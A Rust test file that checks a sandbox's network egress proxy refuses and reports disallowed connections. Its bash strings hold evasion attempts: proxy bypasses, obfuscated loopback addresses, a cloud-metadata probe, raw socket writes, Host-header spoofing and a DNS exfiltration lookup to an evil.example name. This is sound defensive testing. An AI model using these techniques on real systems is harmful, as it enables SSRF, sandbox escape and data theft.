//! What is not allowed is refused, whichever way it is tried, and client, caller and record are all
//! told why. Each with a control that is reached.

use super::world::{World, connections, datagrams, refused};

/// The control of the others: what is allowed comes through in the same call.
fn tries(world: &World, script: &str) -> serde_json::Value {
    let host = format!("good.example:{}", world.good.port);
    let script = format!("{script}; curl -sS {}", world.url());
    let result = world.exec_json(&["--allow-host", &host], &["bash", "-c", &script]);
    let said = result["output"]["stdout"]["text"].as_str().unwrap();
    assert!(said.ends_with("good\n"), "the control: {result}");
    result
}

fn stdout(result: &serde_json::Value) -> &str {
    result["output"]["stdout"]["text"].as_str().unwrap()
}

#[test]
fn another_host_is_refused_by_name_and_told_why() {
    let world = World::new();
    let port = world.other.port;
    let script = format!(
        "curl -sS http://other.example:{port}/; \
         curl -sS --noproxy '*' http://other.example:{port}/ && echo through; \
         curl -sS -x socks5h://127.66.0.1:3128 http://other.example:{port}/ && echo through"
    );
    let result = tries(&world, &script);
    assert_eq!(world.other.came(), 0);
    assert!(!stdout(&result).contains("through"), "{result}");
    // The client.
    assert!(stdout(&result).contains("host_not_allowed"), "{result}");
    // The caller and the record.
    let codes = refused(&result);
    assert!(codes.len() >= 3, "{codes:?}");
    assert!(
        codes.iter().all(|code| code == "host_not_allowed"),
        "{codes:?}"
    );
    assert!(result["attestation"]["network"]["refused"].as_u64() >= Some(3));
    // A person who reads along.
    let host = format!("good.example:{}", world.good.port);
    let url = format!("http://other.example:{port}/");
    let ran = world.exec_with(&["--allow-host", &host], &["curl", "-sS", &url]);
    assert!(
        ran.stderr.contains("refused `other.example"),
        "{}",
        ran.stderr
    );
}

#[test]
fn another_port_is_refused() {
    let world = World::new();
    let port = world.other.port;
    let script = format!("curl -sS http://good.example:{port}/");
    let result = tries(&world, &script);
    assert_eq!(world.other.came(), 0);
    assert_eq!(refused(&result), ["host_not_allowed"], "{result}");
    // And without a proxy nobody listens there.
    let script = format!("curl -sS --noproxy '*' http://good.example:{port}/ || echo no");
    assert!(stdout(&tries(&world, &script)).starts_with("no\n"));
    assert_eq!(world.other.came(), 0);
}

/// The address of a host that is allowed by its name is not allowed by its address, in any spelling.
#[test]
fn addresses_are_refused_in_every_spelling() {
    let world = World::new();
    let port = world.good.port;
    for spelled in [
        "127.0.0.1",
        "2130706433",
        "0x7f.1",
        "0177.0.0.1",
        "127.1",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "[64:ff9b::7f00:1]",
        "localhost",
        "0.0.0.0",
    ] {
        let proxy = "--noproxy '' -x http://127.66.0.1:3128";
        let script = format!(
            "curl -sS -o /dev/null -w '%{{http_code}}' {proxy} 'http://{spelled}:{port}/'; echo"
        );
        let before = world.good.came();
        let result = tries(&world, &script);
        // The control alone came.
        assert_eq!(world.good.came(), before + 1, "{spelled}: {result}");
        assert!(stdout(&result).starts_with('4'), "{spelled}: {result}");
    }
    // Directly: the door is there, and leads nowhere.
    let before = world.good.came();
    let script = format!("curl -sS --noproxy '*' http://127.0.0.1:{port}/ || echo no");
    let result = tries(&world, &script);
    assert_eq!(world.good.came(), before + 1, "{result}");
}

#[test]
fn metadata_private_addresses_and_datagrams_lead_nowhere() {
    let world = World::new();
    let (socket, udp) = datagrams();
    let script = format!(
        "for to in tcp/169.254.169.254/80 tcp/10.0.0.1/443 tcp/192.168.0.1/80 udp/8.8.8.8/53 \
         udp/1.1.1.1/443 tcp/fd00:ec2::254/80 udp/127.66.0.7/443; do \
         (echo x >/dev/$to) 2>/dev/null && case $to in udp/127*) ;; *) echo through $to;; esac; \
         done; echo x >/dev/udp/127.0.0.1/{udp}; \
         curl -sS -o /dev/null -w '%{{http_code}}\\n' http://169.254.169.254/latest/meta-data/"
    );
    let result = tries(&world, &script);
    assert!(stdout(&result).starts_with("403\n"), "{result}");
    assert!(!stdout(&result).contains("through"), "{result}");
    assert!(socket.recv(&mut [0; 4]).is_err());
    // The control: with the machine's own network the datagram comes.
    let script = format!("echo x >/dev/udp/127.0.0.1/{udp}");
    let _ = world
        .exec_with(&["--egress", "none"], &["bash", "-c", &script])
        .expect_code(0);
    assert!(socket.recv(&mut [0; 4]).is_ok());
}

/// A name that is allowed and that its owner points inside.
#[test]
fn an_allowed_name_that_leads_inside_is_refused() {
    let world = World::new();
    let script = "curl -sS -o /dev/null -w '%{http_code}\\n' http://sneaky.example/; \
                  curl -sS --noproxy '*' http://sneaky.example/ || echo no";
    let host = format!("good.example:{}", world.good.port);
    let flags = ["--allow-host", &host, "--allow-host", "sneaky.example"];
    let result = world.exec_json(&flags, &["bash", "-c", script]);
    let codes = refused(&result);
    assert!(
        codes.iter().any(|code| code == "inside_address"),
        "{result}"
    );
    assert!(stdout(&result).starts_with("403\n"), "{result}");
}

/// Names carry nothing out: they are refused here, and nobody is asked.
#[test]
fn names_outside_the_list_are_not_looked_up() {
    let world = World::new();
    let script = "getent ahosts c2VjcmV0LWRhdGE.evil.example || echo none; \
                  getent ahosts secret.good.example || echo none";
    let result = tries(&world, script);
    assert!(stdout(&result).starts_with("none\nnone\n"), "{result}");
    let all = connections(&result);
    let looked = all.iter().filter(|record| record["via"] == "lookup");
    let names: Vec<&str> = looked
        .filter_map(|record| record["name"].as_str())
        .map(|name| name.trim_end_matches('.'))
        .collect();
    assert!(names.contains(&"c2VjcmV0LWRhdGE.evil.example"), "{names:?}");
    assert!(names.contains(&"secret.good.example"), "{names:?}");
}

/// Another host in the request than the one that was connected to.
#[test]
fn a_request_for_another_host_than_was_dialled_is_refused() {
    let world = World::new();
    let url = world.url();
    let script = format!(
        "curl -sS --noproxy '*' -H 'Host: other.example' {url} -o /dev/null -w '%{{http_code}}\\n'"
    );
    let result = tries(&world, &script);
    assert!(stdout(&result).starts_with("403\n"), "{result}");
    assert!(
        refused(&result).contains(&"host_mismatch".to_owned()),
        "{result}"
    );
    // Nothing of it was sent.
    let heads = world.good.heads.lock().unwrap();
    assert!(
        !heads.iter().any(|head| head.contains("other.example")),
        "{heads:?}"
    );
}

/// Two calls at once, each with a host of its own: none comes through the other's doors.
#[test]
fn two_calls_at_once_cannot_use_each_others_doors() {
    let world = World::new();
    let (good, other) = (world.good.port, world.other.port);
    let run = |own: &str, url: &str, foreign: &str| {
        // Both are there for a while, each beside the other.
        let script = format!(
            "for i in 1 2 3 4 5; do curl -sS {url}; \
             curl -sS --noproxy '*' {foreign} >/dev/null && echo through; \
             curl -sS -f {foreign} && echo through; sleep 0.1; done"
        );
        let flags = ["--allow-host", own];
        world.exec_with(&flags, &["bash", "-c", &script])
    };
    let (one, two) = std::thread::scope(|scope| {
        let good_url = format!("http://good.example:{good}/");
        let other_url = format!("http://other.example:{other}/");
        let (first_good, first_other) = (good_url.clone(), other_url.clone());
        let first =
            scope.spawn(move || run(&format!("good.example:{good}"), &first_good, &first_other));
        let second =
            scope.spawn(move || run(&format!("other.example:{other}"), &other_url, &good_url));
        (first.join().unwrap(), second.join().unwrap())
    });
    assert_eq!(one.stdout, "good\n".repeat(5));
    assert_eq!(two.stdout, "other\n".repeat(5));
}

/// What a tool may use up.
#[test]
fn budgets_of_connections_and_bytes_hold() {
    let world = World::with("connections = 2");
    let url = world.url();
    let host = format!("good.example:{}", world.good.port);
    let script = format!("for i in 1 2 3 4; do curl -sS -f {url}; done; true");
    let result = world.exec_json(&["--allow-host", &host], &["bash", "-c", &script]);
    assert_eq!(stdout(&result), "good\ngood\n", "{result}");
    assert!(
        refused(&result).contains(&"connections_used_up".to_owned()),
        "{result}"
    );
    assert_eq!(world.good.came(), 2);

    let world = World::with("bytes = 200");
    let url = world.url();
    let host = format!("good.example:{}", world.good.port);
    let script = format!("for i in 1 2 3; do curl -sS -f {url}; done; true");
    let result = world.exec_json(&["--allow-host", &host], &["bash", "-c", &script]);
    let codes: Vec<_> = connections(&result)
        .iter()
        .map(|record| record["code"].clone())
        .collect();
    assert!(codes.contains(&"bytes_used_up".into()), "{result}");
    assert_ne!(stdout(&result), "good\ngood\ngood\n", "{result}");
}
